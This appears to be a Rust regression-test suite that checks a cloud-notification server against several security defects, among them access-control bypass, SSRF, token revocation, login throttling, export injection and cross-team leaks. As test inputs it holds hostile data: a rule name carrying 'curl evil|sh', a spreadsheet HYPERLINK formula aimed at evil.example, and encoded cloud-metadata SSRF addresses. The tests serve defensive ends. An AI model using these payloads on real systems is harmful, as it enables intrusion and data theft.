//! One test per defect of issue 18 ("Hold against hostile callers"), named after it. Each was
//! reproduced against the code before the fix and fails there.

use crate::helpers::{MEMBER_PASSWORD, Session, TestApp, sandbox, spawn_app, spawn_app_with};
use crate::receiver::eventually;
use crate::state::{fingerprint, first_difference};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use server::config::TEST_ADMIN_PASSWORD;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

fn plain() -> reqwest::Client {
    reqwest::Client::builder().no_proxy().timeout(Duration::from_secs(60)).build().expect("client")
}

/// A topic in the sandbox's first compartment, through the API; answers (connection base, topic id).
async fn topic(admin: &Session, name: &str) -> (String, String, String) {
    let (base, compartment) = sandbox(admin).await;
    let (status, body) =
        admin.call(Method::POST, &format!("{base}/topics"), json!({"compartment_id": compartment, "name": name})).await;
    assert_eq!(status, 200, "{body}");
    (base, compartment, body["id"].as_str().expect("a topic id").to_owned())
}

/// A loopback server that counts the requests it gets and answers each with `answer`.
async fn counting_server(answer: &'static str) -> (String, Arc<AtomicUsize>) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let hits = Arc::new(AtomicUsize::new(0));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let addr = listener.local_addr().expect("addr");
    let counter = hits.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            counter.fetch_add(1, Ordering::SeqCst);
            let answer = answer.to_owned();
            tokio::spawn(async move {
                let mut buffer = vec![0u8; 65536];
                let _ = socket.read(&mut buffer).await;
                let _ = socket.write_all(answer.as_bytes()).await;
            });
        }
    });
    (format!("http://{addr}"), hits)
}

/// Defect 1: HEAD on a protected GET route ran the GET handler for anyone (200 with the real
/// length; a 500 on the audit list). Every method is now decided; the matrix in the API tests
/// tries all of them on every route for every caller.
#[tokio::test]
async fn defect_1_head_skips_access_control() {
    let app = spawn_app().await;
    for path in ["/api/v1/teams/1/connections", "/api/v1/users", "/api/v1/audit/verify", "/api/v1/audit"] {
        let head = plain().head(app.url(path)).send().await.expect("HEAD");
        assert_eq!(head.status(), StatusCode::UNAUTHORIZED, "HEAD {path}");
    }
    // A signed-in viewer gets exactly what GET gives them: 403 where GET is 403.
    let admin = app.admin().await;
    let team = app.create_team(&admin, "Viewers").await;
    let viewer = app.member(&admin, "vic", team, "viewer").await;
    let head = viewer.client.head(app.url("/api/v1/users")).send().await.expect("HEAD");
    assert_eq!(head.status(), StatusCode::FORBIDDEN);
    for method in ["OPTIONS", "TRACE", "PROPFIND", "CONNECT-ISH"] {
        let method = Method::from_bytes(method.as_bytes()).expect("a method");
        let answer = plain().request(method.clone(), app.url("/api/v1/teams/1/connections")).send().await.unwrap();
        assert_eq!(answer.status(), StatusCode::METHOD_NOT_ALLOWED, "{method}");
        assert_eq!(answer.headers()["allow"], "GET, HEAD, POST", "{method}");
    }
}

/// Defect 2: the sandbox accepted metadata and private endpoints, followed a 307 re-posting the
/// body, and the inbox followed `…/oci-sandbox/../api/…` after checking the raw string.
#[tokio::test]
async fn defect_2_ssrf_through_deliveries() {
    let app = spawn_app().await;
    let admin = app.admin().await;
    let (base, _, topic_id) = topic(&admin, "ssrf-test").await;
    let before = fingerprint(&app).await;
    for endpoint in [
        "https://169.254.169.254/latest/meta-data/",
        "https://[::ffff:169.254.169.254]/opc/v2/instance/",
        "https://[::ffff:a9fe:a9fe]/",
        "https://2852039166/",
        "https://0xa9.0xfe.0xa9.0xfe/",
        "https://0251.0376.0251.0376/",
        "https://169.254.43518/",
        "https://[fe80::1]/hook",
        "https://[fd00:ec2::254]/",
        "https://100.100.100.200/",
        "https://10.0.0.5/hook",
        "https://192.168.1.1/hook",
        "https://0.0.0.0/hook",
        "http://169.254.169.254/",
    ] {
        let subscriptions = format!("{base}/topics/{topic_id}/subscriptions");
        let (status, body) =
            admin.call(Method::POST, &subscriptions, json!({"protocol": "CUSTOM_HTTPS", "endpoint": endpoint})).await;
        assert_eq!(status, 400, "{endpoint}: {body}");
        assert_eq!(body["field"], "endpoint", "{endpoint}: {body}");
    }
    let after = fingerprint(&app).await;
    assert!(before == after, "refused endpoints changed state:\n{}", first_difference(&before, &after));

    // The sandbox refuses them itself, to any signed client.
    let details = server::oci::ons::CreateSubscriptionDetails {
        topic_id: topic_id.clone(),
        compartment_id: "ocid1.compartment.oc1..sandboxdev".into(),
        protocol: server::oci::ons::Protocol::CustomHttps,
        endpoint: "https://[::ffff:169.254.169.254]/".into(),
        metadata: None,
        freeform_tags: Default::default(),
        defined_tags: Default::default(),
    };
    let refused = app.builtin.client.create_subscription(&details).await.expect_err("refused");
    assert_eq!(refused.status(), Some(400), "{refused}");

    // A 307 is an answer, never followed: the body is not re-posted where it points.
    let (target, target_hits) = counting_server("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n").await;
    let redirect: &'static str = Box::leak(
        format!("HTTP/1.1 307 Temporary Redirect\r\nLocation: {target}/stolen\r\nContent-Length: 0\r\n\r\n")
            .into_boxed_str(),
    );
    let (redirector, redirector_hits) = counting_server(redirect).await;
    let response = admin
        .send(Method::POST, &format!("{base}/topics/{topic_id}/subscriptions"))
        .json(&json!({"protocol": "CUSTOM_HTTPS", "endpoint": format!("{redirector}/hook")}))
        .send()
        .await
        .expect("subscribe the redirector");
    assert_eq!(response.status(), 200);
    let answered = eventually(Duration::from_secs(10), async || {
        app.builtin.sandbox.deliveries().iter().any(|d| d.last_status == Some(307))
    })
    .await;
    assert!(answered, "the confirmation reached the redirector and its 307 was recorded");
    assert!(redirector_hits.load(Ordering::SeqCst) >= 1);
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(target_hits.load(Ordering::SeqCst), 0, "the redirect was not followed");

    // An inbox does not follow a confirmation URL that leaves the sandbox by its dot segments.
    let team = admin.me.teams[0].team_id;
    let inbox: Value = admin
        .send(Method::POST, &format!("/api/v1/teams/{team}/inboxes"))
        .json(&json!({"name": "ssrf"}))
        .send()
        .await
        .expect("inbox")
        .json()
        .await
        .expect("json");
    let url = inbox["url"].as_str().expect("an inbox URL");
    let sneaky = format!("{}/oci-sandbox/../api/v1/teams", app.url(""));
    let delivered = plain()
        .post(url)
        .header("x-oci-ns-messagetype", "SubscriptionConfirmation")
        .header("x-oci-ns-confirmationurl", &sneaky)
        .header("x-oci-ns-subscriptionid", "ocid1.onssubscription.oc1..x")
        .body("{}")
        .send()
        .await
        .expect("post to the inbox");
    assert!(delivered.status().is_success());
    let deliveries = format!("/api/v1/teams/{team}/inboxes/{}/deliveries", inbox["id"]);
    let mut outcome = String::new();
    let decided = eventually(Duration::from_secs(10), async || {
        let page: Value = admin.read(&deliveries).await;
        outcome = page["deliveries"][0]["confirmation"].as_str().unwrap_or_default().to_owned();
        !outcome.is_empty()
    })
    .await;
    assert!(decided && outcome.starts_with("not followed"), "{outcome}");
}

/// Defect 3: a token kept working after its owner was demoted, removed, disabled, or changed or
/// had reset their password. It now acts with the lesser of its role and the owner's, and dies
/// with the owner's membership, account or password.
#[tokio::test]
async fn defect_3_api_tokens_outlive_their_owner() {
    let app = spawn_app().await;
    let admin = app.admin().await;
    let team = admin.me.teams[0].team_id;
    let (base, compartment) = sandbox(&admin).await;
    let token_of = async |name: &str| {
        let owner = app.member(&admin, name, team, "operator").await;
        let secret = app.token(&owner, team, "operator").await;
        (owner, secret)
    };
    let with = |secret: &str, method: Method, path: &str| plain().request(method, app.url(path)).bearer_auth(secret);
    let create_topic = |secret: &str, name: &str| {
        with(secret, Method::POST, &format!("{base}/topics"))
            .json(&json!({"compartment_id": compartment, "name": name}))
    };
    let members = format!("/api/v1/teams/{team}/members");

    let (demoted, secret) = token_of("tina").await;
    assert_eq!(create_topic(&secret, "by-operator-token").send().await.unwrap().status(), 200);
    let (demote, _) =
        admin.call(Method::PUT, &format!("{members}/{}", demoted.me.user_id), json!({"role": "viewer"})).await;
    assert_eq!(demote, 200);
    assert_eq!(create_topic(&secret, "after-demotion").send().await.unwrap().status(), 403, "acts as a viewer now");
    let list = format!("{base}/topics?compartment_id={compartment}");
    assert_eq!(with(&secret, Method::GET, &list).send().await.unwrap().status(), 200, "still reads");

    let (removed, secret) = token_of("rick").await;
    let remove = admin.send(Method::DELETE, &format!("{members}/{}", removed.me.user_id)).send().await.unwrap();
    assert_eq!(remove.status(), 204);
    assert_eq!(with(&secret, Method::GET, "/api/v1/auth/me").send().await.unwrap().status(), 401);
    // Taken back into the team, the owner does not revive the token.
    let (readd, _) =
        admin.call(Method::PUT, &format!("{members}/{}", removed.me.user_id), json!({"role": "operator"})).await;
    assert_eq!(readd, 200);
    assert_eq!(with(&secret, Method::GET, "/api/v1/auth/me").send().await.unwrap().status(), 401, "stays dead");

    let (disabled, secret) = token_of("dina").await;
    let (disable, _) =
        admin.call(Method::PATCH, &format!("/api/v1/users/{}", disabled.me.user_id), json!({"disabled": true})).await;
    assert_eq!(disable, 200);
    assert_eq!(with(&secret, Method::GET, "/api/v1/auth/me").send().await.unwrap().status(), 401);

    let (changer, secret) = token_of("carl").await;
    let (change, _) = changer
        .call(
            Method::POST,
            "/api/v1/auth/password",
            json!({"current_password": MEMBER_PASSWORD, "new_password": "a brand new password"}),
        )
        .await;
    assert_eq!(change, 204);
    assert_eq!(with(&secret, Method::GET, "/api/v1/auth/me").send().await.unwrap().status(), 401);

    let (reset, secret) = token_of("rita").await;
    let (reset_password, _) = admin
        .call(
            Method::PATCH,
            &format!("/api/v1/users/{}", reset.me.user_id),
            json!({"reset_password": "reset by the admin 1"}),
        )
        .await;
    assert_eq!(reset_password, 200);
    assert_eq!(with(&secret, Method::GET, "/api/v1/auth/me").send().await.unwrap().status(), 401);

    // Each revocation is in the audit trail with its reason.
    let reasons: Vec<String> =
        sqlx::query_scalar("SELECT detail FROM audit_events WHERE action = 'token.revoke' ORDER BY id")
            .fetch_all(&app.pool)
            .await
            .unwrap();
    assert_eq!(
        reasons,
        ["owner left the team", "owner's account disabled", "owner's password changed", "owner's password reset"]
    );
}

/// Defect 4: a hundred parallel wrong passwords all waited and were all hashed; names had no
/// length cap; X-Forwarded-For was not an explicit choice. Over-limit attempts are now refused at
/// once, before hashing, and the client address comes from trusted proxies only.
#[tokio::test]
async fn defect_4_login_throttling_is_a_limit_not_a_delay() {
    let app = spawn_app().await;
    let login = |username: String, password: String, forwarded: Option<String>| {
        let mut request =
            plain().post(app.url("/api/v1/auth/login")).json(&json!({"username": username, "password": password}));
        if let Some(address) = forwarded {
            request = request.header("x-forwarded-for", address);
        }
        async move { request.send().await.expect("login").status() }
    };
    let started = Instant::now();
    let burst =
        futures_util::future::join_all((0..100).map(|_| login("admin".into(), "not the password 1".into(), None)))
            .await;
    let elapsed = started.elapsed();
    let hashed = burst.iter().filter(|s| **s == StatusCode::UNAUTHORIZED).count();
    let refused = burst.iter().filter(|s| **s == StatusCode::TOO_MANY_REQUESTS).count();
    assert_eq!(hashed, 5, "only the free attempts were checked: {burst:?}");
    assert_eq!(refused, 95);
    assert!(elapsed < Duration::from_secs(10), "the burst was answered in {elapsed:?}, not held for a minute");

    let long_name = login("a".repeat(10_000), "whatever password".into(), None).await;
    assert_eq!(long_name, StatusCode::BAD_REQUEST, "no account has such a name");
    let long_password = login("someone".into(), "p".repeat(1024 * 1024), None).await;
    assert!(long_password.is_client_error(), "{long_password}");

    // Without a trusted proxy, X-Forwarded-For is ignored: rotating it does not escape the
    // address's limit (20 attempts a minute, the first 5 of "admin" already used).
    let mut statuses = Vec::new();
    for i in 0..20 {
        statuses.push(login(format!("user{i}"), "wrong password 12".into(), Some(format!("198.51.100.{i}"))).await);
    }
    assert!(statuses.contains(&StatusCode::TOO_MANY_REQUESTS), "a spoofed header escaped the limit: {statuses:?}");

    // Behind a trusted proxy, each client has its own budget: one attacker cannot lock out the
    // office behind the same proxy.
    let proxied = spawn_app_with(|c| c.trusted_proxies = vec!["127.0.0.1".parse().expect("range")]).await;
    for i in 0..25 {
        let status = plain()
            .post(proxied.url("/api/v1/auth/login"))
            .header("x-forwarded-for", format!("203.0.113.{i}"))
            .json(&json!({"username": format!("guess{i}"), "password": "wrong password 12"}))
            .send()
            .await
            .expect("login")
            .status();
        assert_eq!(status, StatusCode::UNAUTHORIZED, "client {i} has its own budget");
    }
    let me = proxied.login("admin", TEST_ADMIN_PASSWORD).await;
    assert_eq!(me.me.username, "admin", "the real user still logs in");
}

/// Defect 5: the server kept hostile bodies: 8 MiB unsigned posts were read (and the sandbox state
/// saved for each), and bodies were not refused on their declared length. Now nothing is read
/// before the length and the signature are checked, and a refused call saves nothing.
#[tokio::test]
async fn defect_5_hostile_bodies_are_refused_before_they_are_read() {
    let app = spawn_app_with(|c| c.sandbox_persist = true).await;
    let saved = || async {
        let path = app.data_dir.path().join("sandbox.db");
        let options = sqlx::sqlite::SqliteConnectOptions::new().filename(&path).read_only(true);
        let pool = sqlx::SqlitePool::connect_with(options).await.expect("sandbox.db");
        let saved: Vec<String> = sqlx::query_scalar("SELECT saved_at FROM tenancies ORDER BY tenancy")
            .fetch_all(&pool)
            .await
            .expect("saved_at");
        pool.close().await;
        saved
    };
    // Let the startup saves settle.
    tokio::time::sleep(Duration::from_millis(600)).await;
    let before = saved().await;
    let body = vec![b'x'; 8 * 1024 * 1024];
    for _ in 0..5 {
        let started = Instant::now();
        let answer = plain()
            .post(app.url("/oci-sandbox/20181201/topics"))
            .header("content-type", "application/json")
            .body(body.clone())
            .send()
            .await;
        // Refused on the declared length, the server may close before the body is sent.
        if let Ok(answer) = answer {
            assert!(answer.status().is_client_error(), "{}", answer.status());
        }
        assert!(started.elapsed() < Duration::from_secs(5));
    }
    let unsigned =
        plain().post(app.url("/oci-sandbox/20181201/topics")).json(&json!({"name": "x"})).send().await.unwrap();
    assert_eq!(unsigned.status(), 401);
    tokio::time::sleep(Duration::from_millis(600)).await;
    assert_eq!(saved().await, before, "refused calls saved no snapshot");

    // A declared length over the limit is refused without reading: the server answers although
    // the body never comes.
    for path in
        ["/api/v1/auth/login", "/oci-sandbox/20181201/topics", "/hooks/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"]
    {
        let answer = raw(&app, &format!(
            "POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 52428800\r\n\r\n{{"
        ))
        .await;
        assert!(answer.starts_with("HTTP/1.1 413"), "{path}: {answer}");
    }
}

/// Sends `request` as bytes on a new connection and answers the response head.
pub async fn raw(app: &TestApp, request: &str) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut socket = tokio::net::TcpStream::connect(app.addr).await.expect("connect");
    socket.write_all(request.as_bytes()).await.expect("send");
    let mut buffer = vec![0u8; 16 * 1024];
    let read = tokio::time::timeout(Duration::from_secs(10), socket.read(&mut buffer))
        .await
        .expect("an answer without the body")
        .expect("read");
    String::from_utf8_lossy(&buffer[..read]).into_owned()
}

/// Defect 6: a rule named `x\ncurl evil|sh` was accepted and landed raw in the exported scripts'
/// comment line; the audit CSV kept `=HYPERLINK(...)` cells as formulas.
#[tokio::test]
async fn defect_6_injection_into_what_users_copy() {
    let app = spawn_app().await;
    let admin = app.admin().await;
    let (base, compartment, topic_id) = topic(&admin, "injection").await;
    let rule = |name: &str| {
        json!({
            "compartment_id": compartment,
            "name": name,
            "condition": "{\"eventType\":[\"com.oraclecloud.objectstorage.createbucket\"]}",
            "actions": [{"kind": "ONS", "target_id": topic_id}],
        })
    };
    for name in ["x\ncurl evil|sh", "tab\there", "rtl\u{202e}hs.live", "nul\u{0}"] {
        let (status, body) = admin.call(Method::POST, &format!("{base}/rules"), rule(name)).await;
        assert_eq!(status, 400, "{name:?}: {body}");
        assert_eq!(body["field"], "name", "{body}");
    }

    // A rule made outside Signalbox may hold anything; its export still cannot run a command.
    let outside = server::oci::events::CreateRuleDetails {
        display_name: "x\ncurl evil|sh".into(),
        description: None,
        is_enabled: true,
        condition: "{}".into(),
        compartment_id: compartment.clone(),
        actions: server::oci::events::ActionDetailsList {
            actions: vec![server::oci::events::ActionDetails {
                target: server::oci::events::ActionTarget::Notifications { topic_id: Some(topic_id.clone()) },
                is_enabled: true,
                description: None,
            }],
        },
        freeform_tags: Default::default(),
        defined_tags: Default::default(),
    };
    let made = app.builtin.client.create_rule(&outside).await.expect("created out of band").body;
    let read: app::api::rules::Rule = admin.read(&format!("{base}/rules/{}", made.id)).await;
    let export = app::export::rule(&read);
    for script in [&export.cli, &export.python] {
        assert!(script.lines().all(|line| !line.starts_with("curl")), "{script}");
    }

    // Spreadsheet formulas stay text in the CSV export.
    let formula = "=HYPERLINK(\"http://evil.example\",\"open\")";
    let response = admin.send(Method::POST, &format!("{base}/rules")).json(&rule(formula)).send().await.unwrap();
    assert_eq!(response.status(), 200);
    let csv = admin.get("/api/v1/audit/export?format=csv").send().await.unwrap().text().await.unwrap();
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    assert!(!csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"), "{csv}");
}

/// Defect 7: every team's built-in connection was the same tenancy and key: a new team's admin
/// listed, changed and deleted another team's topics and saw its deliveries.
#[tokio::test]
async fn defect_7_teams_share_the_built_in_sandbox() {
    let app = spawn_app().await;
    let admin = app.admin().await;
    let (base_a, compartment, topic_a) = topic(&admin, "team-a-alerts").await;
    let (response, _) = admin
        .call(
            Method::POST,
            &format!("{base_a}/topics/{topic_a}/subscriptions"),
            json!({"protocol": "EMAIL", "endpoint": "a-oncall@example.com"}),
        )
        .await;
    assert_eq!(response, 200);

    let team_b = app.create_team(&admin, "Team B").await;
    let intruder = app.member(&admin, "ivan", team_b, "admin").await;
    let connections: Vec<Value> = intruder.read(&format!("/api/v1/teams/{team_b}/connections")).await;
    let base_b = format!("/api/v1/teams/{team_b}/connections/{}", connections[0]["id"]);
    let listed: Value = intruder.read(&format!("{base_b}/topics?compartment_id={compartment}")).await;
    let listed = listed["items"].as_array().cloned().unwrap_or_default();
    assert!(listed.is_empty(), "team B sees none of team A's topics: {listed:?}");
    let get = intruder.get(&format!("{base_b}/topics/{topic_a}")).send().await.unwrap();
    assert_eq!(get.status(), 404);
    let delete = intruder.send(Method::DELETE, &format!("{base_b}/topics/{topic_a}")).send().await.unwrap();
    assert_eq!(delete.status(), 404);
    let still = admin.get(&format!("{base_a}/topics/{topic_a}")).send().await.unwrap();
    assert_eq!(still.status(), 200, "team A's topic is untouched");

    // Team B's sandbox log holds none of team A's deliveries (and their unsubscribe links).
    let activity: Value = intruder.read(&format!("{base_b}/sandbox/activity")).await;
    let text = activity.to_string();
    assert!(!text.contains("a-oncall@example.com") && !text.contains(&topic_a), "{text}");
    let mine: Value = admin.read(&format!("{base_a}/sandbox/activity")).await;
    assert!(mine.to_string().contains("a-oncall@example.com"), "team A still sees its own");

    // Team B's tenancy is its own: it has its compartments, its sample functions, and may use
    // the same topic name.
    let own = intruder
        .send(Method::POST, &format!("{base_b}/topics"))
        .json(&json!({"compartment_id": compartment, "name": "team-a-alerts"}))
        .send()
        .await
        .unwrap();
    assert_eq!(own.status(), 200, "names are unique per tenancy");
}

/// Defect 8: smaller holes, each checked.
mod defect_8 {
    use super::*;

    /// Encrypted keys with an attacker-chosen KDF cost are refused at once, naming the field.
    #[tokio::test]
    async fn kdf_cost_of_an_uploaded_key_is_capped() {
        use pkcs8::der::Encode;
        let app = spawn_app().await;
        let admin = app.admin().await;
        let team = admin.me.teams[0].team_id;
        let pem_text = crate::helpers::fixture("vector_pkcs8_encrypted.pem");
        let block = pem::parse(pem_text.as_bytes()).expect("pem");
        let mut info = pkcs8::EncryptedPrivateKeyInfo::try_from(block.contents()).expect("encrypted key");
        if let pkcs8::pkcs5::EncryptionScheme::Pbes2(params) = &mut info.encryption_algorithm
            && let pkcs8::pkcs5::pbes2::Kdf::Pbkdf2(kdf) = &mut params.kdf
        {
            kdf.iteration_count = 2_000_000_000;
        }
        let costly = pem::encode(&pem::Pem::new("ENCRYPTED PRIVATE KEY", info.to_der().expect("der")));
        let mut body = crate::helpers::by_fields("costly");
        body["private_key"] = json!(costly);
        body["pass_phrase"] = json!("correct-horse");
        let started = Instant::now();
        let (status, body) = admin.call(Method::POST, &format!("/api/v1/teams/{team}/connections"), body).await;
        assert_eq!(status, 400, "{body}");
        assert_eq!(body["field"], "private_key", "{body}");
        assert!(body["message"].as_str().unwrap_or_default().contains("PBKDF2"), "{body}");
        assert!(started.elapsed() < Duration::from_secs(2), "refused before deriving");
    }

    /// Two applies of one deployment sent at once: one runs, the other is a 409.
    #[tokio::test]
    async fn two_applies_of_one_deployment_cannot_run_at_once() {
        let app = spawn_app().await;
        let admin = app.admin().await;
        let team = admin.me.teams[0].team_id;
        let (base, compartment) = sandbox(&admin).await;
        let connection_id: i64 = base.rsplit('/').next().expect("id").parse().expect("a number");
        let post = async |path: String, body: Value| admin.call(Method::POST, &path, body).await;
        let (_, created) =
            post(format!("/api/v1/teams/{team}/templates"), json!({"source": {"starter": "infra-alerts"}})).await;
        let template_id = created["template"]["id"].as_i64().unwrap_or_else(|| panic!("a template: {created}"));
        let parameters = |prefix: &str| json!({"prefix": prefix, "webhook_url": "http://127.0.0.1:9/alerts"});
        let mut target = json!({
            "template_id": template_id, "version": 1, "connection_id": connection_id,
            "compartment_id": compartment, "parameters": parameters("race"),
        });
        let deployments = format!("/api/v1/teams/{team}/deployments");
        let (status, review) = post(format!("{deployments}/plan"), target.clone()).await;
        assert_eq!(status, 200, "{review}");
        target["name"] = json!("race");
        target["digest"] = review["digest"].clone();
        let (status, run) = post(deployments.clone(), target).await;
        assert_eq!(status, 200, "{run}");
        let deployment = run["deployment_id"].as_i64().expect("a deployment");
        let first_run = format!("{deployments}/{deployment}/runs/{}", run["run"]["id"]);
        let finished = eventually(Duration::from_secs(20), async || {
            let now: Value = admin.read(&first_run).await;
            now["run"]["state"] != "running"
        })
        .await;
        assert!(finished, "the first run finishes");

        // Every call slow, so two applies of a real change overlap.
        let slow = server::sandbox::FaultSpec { latency_ms: 250, ..Default::default() };
        app.builtin
            .sandbox
            .set_faults([("notifications".to_owned(), slow), ("events".to_owned(), slow)].into())
            .unwrap();
        let change = json!({"parameters": parameters("race-two")});
        let (status, replan) = post(format!("{deployments}/{deployment}/plan"), change.clone()).await;
        assert_eq!(status, 200, "{replan}");
        let mut apply = change;
        apply["digest"] = replan["digest"].clone();
        let path = format!("{deployments}/{deployment}/apply");
        let (first, second) = tokio::join!(post(path.clone(), apply.clone()), post(path, apply));
        let mut statuses = [first.0, second.0];
        statuses.sort_unstable();
        assert_eq!(statuses, [200, 409], "exactly one apply runs: {} / {}", first.1, second.1);
    }

    /// Slack and PagerDuty URLs are credentials: answered, listed and audited redacted.
    #[tokio::test]
    async fn webhook_urls_are_redacted_everywhere() {
        let app = spawn_app().await;
        let admin = app.admin().await;
        let (base, compartment, topic_id) = topic(&admin, "chatops").await;
        let secret = "T0000/B0000/abcdefghijklmnopqrstuvwx";
        // Made directly in the sandbox: no DNS here to check hooks.slack.com against.
        let stored = app
            .builtin
            .sandbox
            .world()
            .create_subscription(
                server::oci::ons::CreateSubscriptionDetails {
                    topic_id: topic_id.clone(),
                    compartment_id: compartment,
                    protocol: server::oci::ons::Protocol::Slack,
                    endpoint: format!("https://hooks.slack.com/services/{secret}"),
                    metadata: None,
                    freeform_tags: Default::default(),
                    defined_tags: Default::default(),
                },
                None,
            )
            .expect("a Slack subscription");
        let listed = admin.get(&format!("{base}/topics/{topic_id}/subscriptions")).send().await.unwrap();
        let text = listed.text().await.unwrap();
        assert!(!text.contains("abcdefghijklmnop") && text.contains("****uvwx"), "{text}");
        let deleted = admin
            .send(Method::DELETE, &format!("{base}/subscriptions/{}", stored.subscription.id))
            .send()
            .await
            .unwrap();
        assert_eq!(deleted.status(), 204);
        let audit: Vec<String> = sqlx::query_scalar(
            "SELECT coalesce(target_name, '') || coalesce(before_json, '') || coalesce(after_json, '') FROM audit_events",
        )
        .fetch_all(&app.pool)
        .await
        .unwrap();
        assert!(audit.iter().all(|row| !row.contains("abcdefghijklmnop")), "{audit:?}");
    }

    /// A live stream ends when its session or membership does, and never holds up a stop.
    #[tokio::test]
    async fn live_streams_end_with_access_and_at_shutdown() {
        let app = spawn_app().await;
        let admin = app.admin().await;
        let team = admin.me.teams[0].team_id;
        let inbox: Value =
            admin.call(Method::POST, &format!("/api/v1/teams/{team}/inboxes"), json!({"name": "stream"})).await.1;
        let events = format!("/api/v1/teams/{team}/inboxes/{}/events", inbox["id"]);
        let viewer = app.member(&admin, "stella", team, "viewer").await;
        // Reads a stream to its end; whether it ended within 15 s.
        let ends = |response: reqwest::Response| async move {
            let mut response = response;
            tokio::time::timeout(
                Duration::from_secs(15),
                async move { while let Ok(Some(_)) = response.chunk().await {} },
            )
            .await
            .is_ok()
        };
        let open = viewer.get(&events).send().await.unwrap();
        assert_eq!(open.status(), 200);
        let user_id = viewer.me.user_id;
        let removed =
            admin.send(Method::DELETE, &format!("/api/v1/teams/{team}/members/{user_id}")).send().await.unwrap();
        assert_eq!(removed.status(), 204);
        assert!(ends(open).await, "the stream of a member removed from the team ended");

        let again = app.admin().await;
        let open = again.get(&events).send().await.unwrap();
        assert_eq!(open.status(), 200);
        assert_eq!(again.send(Method::POST, "/api/v1/auth/logout").send().await.unwrap().status(), 204);
        assert!(ends(open).await, "the stream of a session that logged out ended");

        // A stopping server ends open streams instead of waiting for them.
        let data_dir = tempfile::tempdir().unwrap();
        let application = server::Application::build(server::config::Config::for_tests(data_dir.path())).await.unwrap();
        let addr = application.local_addr().unwrap();
        let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
        let running = tokio::spawn(application.run_until(async move {
            let _ = stopped.await;
        }));
        let client = reqwest::Client::builder().no_proxy().cookie_store(true).build().unwrap();
        let me: Value = client
            .post(format!("http://{addr}/api/v1/auth/login"))
            .json(&json!({"username": "admin", "password": TEST_ADMIN_PASSWORD}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let made: Value = client
            .post(format!("http://{addr}/api/v1/teams/{team}/inboxes"))
            .header("x-csrf-token", me["csrf_token"].as_str().unwrap())
            .json(&json!({"name": "open"}))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let open = client
            .get(format!("http://{addr}/api/v1/teams/{team}/inboxes/{}/events", made["id"]))
            .send()
            .await
            .unwrap();
        assert_eq!(open.status(), 200);
        let started = Instant::now();
        let _ = stop.send(());
        let finished = tokio::time::timeout(Duration::from_secs(8), running).await;
        assert!(finished.is_ok(), "the server did not stop with a stream open");
        assert!(started.elapsed() < Duration::from_secs(8));
        drop(open);
    }

    /// The audit trail and retry tokens are on disk before they are acknowledged.
    #[tokio::test]
    async fn the_database_syncs_every_commit() {
        let app = spawn_app().await;
        let synchronous: i64 = sqlx::query_scalar("PRAGMA synchronous").fetch_one(&app.pool).await.unwrap();
        assert_eq!(synchronous, 2, "FULL");
    }

    /// A request captured and replayed later with a fresh, unsigned x-date is refused.
    #[tokio::test]
    async fn a_replayed_sandbox_request_with_an_unsigned_date_is_refused() {
        let app = spawn_app().await;
        let key_pem = std::fs::read(app.data_dir.path().join("sandbox/api_key.pem")).unwrap();
        let key = server::oci::key::PrivateKey::from_pem(&key_pem, None).unwrap();
        let api_key =
            server::oci::signer::ApiKey::new(app.builtin.sandbox.tenancy(), server::builtin::BUILTIN_USER, key);
        let url = app.url("/oci-sandbox/20181201/topics?compartmentId=ocid1.compartment.oc1..sandboxdev");
        let mut request = http::Request::builder().uri(&url).body(bytes::Bytes::new()).unwrap();
        let captured_at = chrono::Utc::now() - chrono::TimeDelta::minutes(20);
        server::oci::signer::sign(&mut request, &api_key, captured_at).unwrap();
        let mut replay = plain().get(&url);
        for (name, value) in request.headers() {
            replay = replay.header(name, value);
        }
        let replay = replay.header("x-date", httpdate::fmt_http_date(std::time::SystemTime::now()));
        let answer = replay.send().await.unwrap();
        assert_eq!(answer.status(), 401, "{}", answer.text().await.unwrap_or_default());
    }
}

/// Found by schemathesis: two health checks of one compartment at once, and one was a 500
/// ("database is locked": a transaction that read before writing could not take the write lock
/// once another committed). Every transaction now takes the lock when it begins.
#[tokio::test]
async fn concurrent_writes_wait_their_turn_instead_of_failing() {
    let app = spawn_app().await;
    let admin = app.admin().await;
    let (base, compartment, topic_id) = topic(&admin, "concurrency").await;
    let rule = json!({
        "compartment_id": compartment, "name": "concurrency",
        "condition": "{\"eventType\":[\"com.oraclecloud.objectstorage.createbucket\"]}",
        "actions": [{"kind": "ONS", "target_id": topic_id}],
    });
    let (status, body) = admin.call(Method::POST, &format!("{base}/rules"), rule).await;
    assert_eq!(status, 200, "{body}");
    let check = format!("{base}/health?compartment_id={compartment}");
    let checks = (0..20).map(|_| admin.call(Method::POST, &check, json!({})));
    let statuses: Vec<u16> = futures_util::future::join_all(checks).await.into_iter().map(|(s, _)| s).collect();
    assert!(statuses.iter().all(|s| *s == 200), "{statuses:?}");
}
